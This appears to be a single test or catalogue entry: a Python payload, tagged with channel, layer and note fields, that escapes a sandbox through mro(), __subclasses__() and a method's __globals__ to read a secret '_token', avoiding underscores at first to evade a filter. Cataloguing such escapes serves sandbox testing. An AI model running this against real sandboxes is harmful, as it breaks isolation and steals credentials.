#: channel = attributes
#: reaches = engine
#: layer = check
#: note = the mro method, no underscore in sight, then the loader of a class

async def run(context):
    top = type(context).mro()[-1]
    names = {c.__name__: c for c in top.__subclasses__()}
    return names["Cache"].get.__globals__["_token"]
